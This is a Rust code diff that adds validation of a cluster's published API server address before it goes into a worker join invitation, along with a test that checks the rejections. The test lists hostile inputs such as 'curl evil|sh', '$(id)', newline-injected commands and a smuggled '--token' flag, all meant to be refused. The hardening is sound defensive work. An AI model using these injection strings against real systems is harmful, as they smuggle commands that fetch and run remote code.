@@ -149,6 +149,7 @@ async fn of_control_plane(admin: &Client, named: &Named) -> anyhow::Result<Clien
 /// Makes a token, and waits until it is signed for: a machine that comes earlier would not trust what it finds.
 async fn invite(tenant: &Client, ttl: SignedDuration) -> anyhow::Result<Invitation> {
     let published = Published::read(tenant).await?;
+    let endpoint = worker::endpoint(&published.server)?;
     let version = tenant
         .apiserver_version()
         .await
@@ -165,7 +166,6 @@ async fn invite(tenant: &Client, ttl: SignedDuration) -> anyhow::Result<Invitati
         oldest: oldest.to_string(),
         newest: newest.to_string(),
     });
-    let endpoint = published.server.trim_start_matches("https://").to_owned();
     let authority = String::from_utf8(published.authority.0).context("the authority in cluster-info is not PEM")?;
     let ca_cert_hash = pki::public_key_hash(&authority)?;
     Ok(Invitation {
@@ -258,7 +258,39 @@ mod tests {
             (read.server.as_str(), read.authority.0.as_slice()),
             ("https://192.0.2.7:6443", b"PEM".as_slice())
         );
+        assert_eq!(worker::endpoint(&read.server).unwrap(), "192.0.2.7:6443");
         assert!(Published::parse("clusters: []").is_err());
         assert!(Published::parse("- 1").is_err());
+    }
+
+    #[test]
+    fn what_is_published_is_no_command() {
+        assert_eq!(
+            worker::endpoint("https://[2001:db8::1]:6443").unwrap(),
+            "[2001:db8::1]:6443"
+        );
+        assert_eq!(
+            worker::endpoint("https://shop.example.test:+443").unwrap(),
+            "shop.example.test:443"
+        );
+        for server in [
+            "https://x;curl evil|sh #",
+            "https://x;curl evil|sh #:6443",
+            "https://$(id):6443",
+            "https://x:6443\ncurl evil",
+            "https://x\ncurl evil:6443",
+            "https://x:6443 --token=other",
+            "https://x:6443/",
+            "https://--config:6443",
+            "https://https://x:6443",
+            "http://x:6443",
+            "x:6443",
+            "https://x",
+            "",
+        ] {
+            let error = worker::endpoint(server).unwrap_err();
+            assert_eq!(crate::exit_code(&error), 3, "{server}");
+            assert!(!error.to_string().contains('\n'), "{server}");
+        }
     }
 }
